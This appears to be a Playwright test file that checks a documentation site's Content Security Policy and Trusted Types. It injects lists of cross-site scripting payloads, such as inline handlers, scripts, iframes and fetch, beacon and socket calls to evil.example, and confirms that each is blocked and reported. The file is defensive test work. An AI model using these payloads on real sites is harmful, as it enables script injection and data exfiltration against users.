import type { Page } from '@playwright/test'
import { sidebarLink } from './support/sidebar-link.ts'
import { complete, expect, inTestSlow, test } from './support/test.ts'
import { withoutPrefetch } from './support/without-prefetch.ts'

type Attack = { readonly html: string; readonly stoppedBy: string }

/** Hostile HTML in the content, and the directive that stops it. */
const markup: Readonly<Record<string, Attack>> = {
  'an inline handler': { html: '<img src="/nope.png" alt="" onerror="attack()">', stoppedBy: 'script-src-attr' },
  'a handler of a drawing': { html: '<svg onload="attack()"></svg>', stoppedBy: 'script-src-attr' },
  'an element that handles its own focus': {
    html: '<input autofocus onfocus="attack()" aria-label="x">',
    stoppedBy: 'script-src-attr',
  },
  'a frame of another host': {
    html: '<iframe src="https://evil.example/" title="x"></iframe>',
    stoppedBy: 'frame-src',
  },
  'a frame with a document of its own': {
    html: '<iframe srcdoc="<script>parent.attack()</script>" title="x"></iframe>',
    stoppedBy: 'script-src-elem',
  },
  'a plug-in': { html: '<object data="/404.html"></object>', stoppedBy: 'object-src' },
  'an inline style': { html: '<p style="position:fixed">x</p>', stoppedBy: 'style-src-attr' },
  'a style sheet': { html: '<style>main { display: none }</style>', stoppedBy: 'style-src-elem' },
  'an image of another host': { html: '<img src="https://evil.example/x.png" alt="">', stoppedBy: 'img-src' },
  'a film of another host': { html: '<video src="https://evil.example/x.webm"></video>', stoppedBy: 'media-src' },
}

/** Hostile HTML that only the parser of a document runs. */
const elements: Readonly<Record<string, Attack>> = {
  'a style sheet of another host': {
    html: '<link rel="stylesheet" href="https://evil.example/x.css">',
    stoppedBy: 'style-src-elem',
  },
  'an inline script': { html: '<script>attack()</script>', stoppedBy: 'script-src-elem' },
  'an inline module': { html: '<script type="module">attack()</script>', stoppedBy: 'script-src-elem' },
  'a script of another host': {
    html: '<script src="https://evil.example/x.js"></script>',
    stoppedBy: 'script-src-elem',
  },
  'a script in its own address': {
    html: '<script src="data:text/javascript,attack()"></script>',
    stoppedBy: 'script-src-elem',
  },
  'another base': { html: '<base href="https://evil.example/">', stoppedBy: 'base-uri' },
}

/** Ways in which hostile data could make a script of the site run text. */
const sinks: Readonly<Record<string, { readonly script: string; readonly stoppedBy: string }>> = {
  eval: { script: 'eval("attack()")', stoppedBy: 'require-trusted-types-for' },
  'new Function': { script: 'new Function("attack()")()', stoppedBy: 'require-trusted-types-for' },
  'a timer of words': { script: 'setTimeout("attack()")', stoppedBy: 'require-trusted-types-for' },
  'HTML from words': {
    script: 'document.querySelector("main").innerHTML = "<img src=x onerror=attack()>"',
    stoppedBy: 'require-trusted-types-for',
  },
  'HTML beside an element': {
    script: 'document.body.insertAdjacentHTML("beforeend", "<b>x</b>")',
    stoppedBy: 'require-trusted-types-for',
  },
  'a document from words': {
    script: 'document.write("<script>attack()</" + "script>")',
    stoppedBy: 'require-trusted-types-for',
  },
  'the address of a script': {
    script: 'document.createElement("script").src = "https://evil.example/x.js"',
    stoppedBy: 'require-trusted-types-for',
  },
  'a handler in an attribute': {
    script: 'document.body.setAttribute("onclick", "attack()")',
    stoppedBy: 'require-trusted-types-for',
  },
  'another policy': {
    script: 'trustedTypes.createPolicy("evil", { createHTML: (x) => x })',
    stoppedBy: 'trusted-types',
  },
  'a module of another host': { script: 'import("https://evil.example/x.js")', stoppedBy: 'script-src-elem' },
  'a request to another host': { script: 'fetch("https://evil.example/")', stoppedBy: 'connect-src' },
  'a message to another host': { script: 'navigator.sendBeacon("https://evil.example/")', stoppedBy: 'connect-src' },
  'a socket': { script: 'new WebSocket("wss://evil.example/")', stoppedBy: 'connect-src' },
}

type Seen = { readonly ran: number; readonly reports: readonly string[] }

/** Records each run of hostile code, and reports of the browser. */
async function watch(page: Page): Promise<() => Promise<Seen>> {
  await page.addInitScript(() => {
    // Frames report to the page. The frame of an error page cannot access it.
    const own = { ran: 0, reports: [] as string[] }
    const seen = origin === 'null' ? own : ((window.top as unknown as { seen?: typeof own }).seen ?? own)
    Object.assign(window, { seen, attack: () => seen.ran++ })
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => seen.reports.push(effectiveDirective))
  })
  return () => page.evaluate(() => (window as unknown as { seen: Seen }).seen)
}

async function expectStopped(look: () => Promise<Seen>, attacks: readonly { readonly stoppedBy: string }[]) {
  const directives = attacks.map(({ stoppedBy }) => stoppedBy).sort()
  await expect.poll(async () => [...new Set((await look()).reports)].sort()).toEqual([...new Set(directives)])
  expect((await look()).reports.length).toBeGreaterThanOrEqual(directives.length)
  expect((await look()).ran).toBe(0)
}

/** Appends HTML to the document of a page. */
async function append(page: Page, html: string): Promise<void> {
  await page.route('**/ledger/guide/', async (request) => {
    const response = await request.fetch()
    await request.fulfill({ response, body: (await response.text()).replace('</head>', `${html}</head>`) })
  })
}

test('hostile HTML in page data or the document runs nothing, and is reported', async ({
  page,
  open,
  violations,
  host,
}) => {
  await test.step('HTML in page data runs nothing, loads nothing, and is reported', async () => {
    await withoutPrefetch(page)
    const look = await watch(page)
    const attacks = Object.values(markup)
    await page.route('**/ledger/guide/install.json', async (request) => {
      const response = await request.fetch()
      const pageData = await response.json()
      const tree = [attacks.map(({ html }) => html).join('')]
      await request.fulfill({ response, json: { ...pageData, page: { ...pageData.page, parts: [tree] } } })
    })
    await open('/ledger/guide/')
    await sidebarLink(page, 'Installation').click()
    await expect(page).toHaveTitle('Installation | the shelf')
    await expectStopped(look, attacks)
    expect(violations.splice(0).length).toBeGreaterThanOrEqual(attacks.length)
    await page.unrouteAll()
  })
  await test.step('elements injected into the document run nothing and are reported', async () => {
    const look = await watch(page)
    const attacks = Object.values(elements)
    await append(page, attacks.map(({ html }) => html).join(''))
    await page.goto(`${host.origin}/ledger/guide/`)
    await complete(page)
    await expectStopped(look, attacks)
    expect(await page.evaluate(() => document.baseURI)).toBe(`${host.origin}/ledger/guide/`)
    expect(violations.splice(0).length).toBeGreaterThanOrEqual(attacks.length)
  })
})

test(
  'hostile addresses, redirects, results and scripts run nothing',
  inTestSlow(),
  async ({ page, open, host, violations, pageErrors }) => {
    await test.step('search results on another site are not offered', async () => {
      const routes = ['/\\evil.invalid/x', '//evil.invalid/x', '/\t/evil.invalid/x', '/ledger/guide/']
      await page.addInitScript((routes) => {
        const recent = routes.map((route) => ({ route, title: `To ${route}`, label: 'Ledger' }))
        localStorage.setItem('search.recent', JSON.stringify(recent))
      }, routes)
      await open('/ledger/guide/')
      await page.getByRole('button', { name: 'Search', exact: true }).click()
      await expect(page.getByRole('option', { name: /^To / })).toHaveText([/To \/ledger/])
    })
    await test.step('page data with a refresh or a foreign redirect leaves the page on the site', async () => {
      await withoutPrefetch(page)
      const gone: string[] = []
      await page.route('**/gone', (request) => {
        gone.push(request.request().url())
        return request.fulfill({ body: 'gone' })
      })
      await page.route('**/ledger/guide/install.json', async (request) => {
        const response = await request.fetch()
        const pageData = await response.json()
        const html =
          '<p>words</p><META http-equiv="refresh" content="0;url=/gone"><meta/http-equiv=refresh content=0;url=/gone>'
        await request.fulfill({ response, json: { ...pageData, page: { ...pageData.page, parts: [[html]] } } })
      })
      await open('/ledger/guide/')
      await sidebarLink(page, 'Installation').click()
      await expect(page.getByRole('main')).toContainText('words')
      await page.waitForTimeout(500)
      expect(gone).toEqual([])
      const stranger = host.origin.replace('127.0.0.1', 'localhost').replace(/^http:/, '')
      await page.route('**/ledger/guide/basic-usage.json', (request) =>
        request.fulfill({ json: { moved: `${stranger}/gone` } }),
      )
      await page.getByRole('navigation', { name: 'Docs pages' }).getByRole('link', { name: /Next/ }).click()
      await expect(page.getByRole('heading', { level: 1 })).toHaveText('Basic usage')
      expect(page.url()).toBe(`${host.origin}/ledger/guide/basic-usage`)
      expect(gone).toEqual([])
      await page.unrouteAll()
    })
    await test.step('a script address and a form in the content do nothing and are reported', async () => {
      await withoutPrefetch(page)
      const look = await watch(page)
      await page.route('**/ledger/guide/install.json', async (request) => {
        const response = await request.fetch()
        const pageData = await response.json()
        const html =
          '<a href="javascript:attack()">link</a><form action="https://evil.example/"><button>send</button></form>'
        await request.fulfill({ response, json: { ...pageData, page: { ...pageData.page, parts: [[html]] } } })
      })
      await open('/ledger/guide/')
      await sidebarLink(page, 'Installation').click()
      await page.getByRole('link', { name: 'link', exact: true }).click()
      await expectStopped(look, [{ stoppedBy: 'script-src-elem' }])
      // A blocked navigation never ends.
      await page.getByRole('button', { name: 'send' }).click({ noWaitAfter: true })
      await expect.poll(() => violations.filter((text) => text.includes("form-action 'none'"))).toHaveLength(1)
      expect(page.url()).toMatch(/\/ledger\/guide\/install$/)
      violations.length = 0
      await page.unrouteAll()
    })
    await test.step('a site script made to run text runs nothing and reports it', async () => {
      const look = await watch(page)
      const attacks = Object.values(sinks)
      const script = attacks.map((sink) => `try { ${sink.script} } catch (error) {}`).join('\n')
      await page.route('**/assets/fooled.js', (request) =>
        request.fulfill({ contentType: 'text/javascript', body: script }),
      )
      await append(page, '<script defer src="/assets/fooled.js"></script>')
      await page.goto(`${host.origin}/ledger/guide/`)
      await complete(page)
      await expectStopped(look, attacks)
      violations.length = 0
      // Later requests, such as a module of another host, are blocked later.
      pageErrors.length = 0
    })
  },
)
